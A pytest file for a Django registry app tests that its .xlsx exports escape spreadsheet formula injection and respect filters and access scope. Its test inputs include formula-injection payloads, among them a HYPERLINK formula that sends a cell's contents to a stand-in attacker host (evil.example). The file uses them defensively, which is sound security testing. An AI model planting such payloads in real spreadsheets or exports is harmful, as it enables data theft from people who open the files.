"""List exports to .xlsx: the same filtered, scoped rows and columns as the page, with
every text cell escaped against formula injection."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from qualityhub.core.exports import XLSX_CONTENT_TYPE, safe_cell, workbook_bytes
from qualityhub.core.testing.factories import EnterpriseFactory, ProductFactory, region
from qualityhub.registry.models import Product

INJECTIONS = [
    '=HYPERLINK("http://evil.example/steal?x="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign, which spreadsheet programs also evaluate
]


def _sheet(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "attachment;" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    return workbook.worksheets[0]


def _rows(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _column(sheet, header):
    rows = _rows(sheet)
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("value", ["=1+1", "+A1", "-1", "@cmd", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x"])
def test_safe_cell_prefixes_formula_triggers_with_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["美的", "a=1", "1+1", "", None, 42, -3, 1.5])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


def test_a_workbook_never_contains_a_formula():
    data = workbook_bytes([("表", ["=表头"], [[v] for v in INJECTIONS], None)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.data_type for row in sheet.iter_rows() for c in row] == ["s"] * (len(INJECTIONS) + 1)


def test_enterprise_list_exports_an_xlsx_with_the_page_columns(actors):
    sheet = _sheet(actors.regulator_same_city.client().get(reverse("registry:enterprise-list"), {"export": "xlsx"}))
    rows = _rows(sheet)
    assert rows[0] == ["企业名称", "统一社会信用代码", "地市", "区县", "行业", "规模", "荣誉", "状态"]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {actors.enterprise_a.name, actors.enterprise_b.name}
    assert by_name[actors.enterprise_a.name][1] == actors.enterprise_a.uscc
    assert by_name[actors.enterprise_a.name][2] == "深圳市"
    assert by_name[actors.enterprise_a.name][7] == "存续"


def test_the_export_holds_every_matching_row_not_only_the_first_page(actors):
    for n in range(30):
        ProductFactory(enterprise=actors.enterprise_a, model=f"BULK-{n:02d}")
    sheet = _sheet(actors.owner.client().get(reverse("registry:product-list"), {"export": "xlsx"}))
    models = _column(sheet, "型号规格")
    assert len(models) == Product.objects.filter(enterprise=actors.enterprise_a).count() == 32
    assert {f"BULK-{n:02d}" for n in range(30)} <= set(models)


def test_the_export_applies_the_pages_filters(actors):
    ProductFactory(enterprise=actors.enterprise_a, model="FILTER-ME", hs_code="9405100000")
    sheet = _sheet(actors.owner.client().get(reverse("registry:product-list"), {"export": "xlsx", "hs_code": "9405"}))
    assert _column(sheet, "型号规格") == ["FILTER-ME"]


@pytest.mark.parametrize("name", INJECTIONS)
def test_an_enterprise_name_starting_with_a_formula_is_exported_as_text(actors, name):
    evil = EnterpriseFactory(name=name, region=region("440305"))
    response = actors.regulator_same_city.client().get(reverse("registry:enterprise-list"), {"export": "xlsx"})
    sheet = _sheet(response)
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[1].value == evil.uscc]
    assert len(cells) == 1
    cell = cells[0]
    assert cell.data_type == "s"
    # (XML turns a carriage return into a line feed when the file is read back.)
    assert cell.value == ("'" + name).replace("\r", "\n")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_a_product_brand_and_model_starting_with_a_formula_are_exported_as_text(actors):
    ProductFactory(enterprise=actors.enterprise_a, name="=1+1", brand='=HYPERLINK("http://evil.example","x")',
                   model="@SUM(1,2)", category="-2+3")
    sheet = _sheet(actors.owner.client().get(reverse("registry:product-list"), {"export": "xlsx"}))
    rows = _rows(sheet)
    header = rows[0]
    [row] = [r for r in rows[1:] if r[header.index("型号规格")] == "'@SUM(1,2)"]
    assert row[header.index("产品名称")] == "'=1+1"
    assert row[header.index("品牌")] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert row[header.index("类别")] == "'-2+3"
    for sheet_row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in sheet_row)


def test_the_enterprise_export_contains_only_what_the_actor_may_see(actors):
    sheet = _sheet(actors.outsider.client().get(reverse("registry:enterprise-list"), {"export": "xlsx"}))
    assert _column(sheet, "企业名称") == [actors.enterprise_b.name]
    sheet = _sheet(actors.regulator_other_city.client().get(reverse("registry:enterprise-list"), {"export": "xlsx"}))
    assert _column(sheet, "企业名称") == [actors.enterprise_c.name]


def test_the_product_export_contains_only_what_the_actor_may_see(actors):
    sheet = _sheet(actors.outsider.client().get(reverse("registry:product-list"), {"export": "xlsx"}))
    assert _column(sheet, "型号规格") == ["B-200"]
    sheet = _sheet(actors.owner.client().get(reverse("registry:product-list"), {"export": "xlsx"}))
    assert set(_column(sheet, "型号规格")) == {"A-100", "A-PRIVATE"}
    # A filter naming another enterprise cannot widen the scope.
    sheet = _sheet(actors.outsider.client().get(
        reverse("registry:product-list"), {"export": "xlsx", "enterprise": actors.enterprise_a.pk}
    ))
    assert _column(sheet, "型号规格") == []


def test_anonymous_visitors_cannot_export(actors):
    response = actors.anonymous.client().get(reverse("registry:enterprise-list"), {"export": "xlsx"})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))
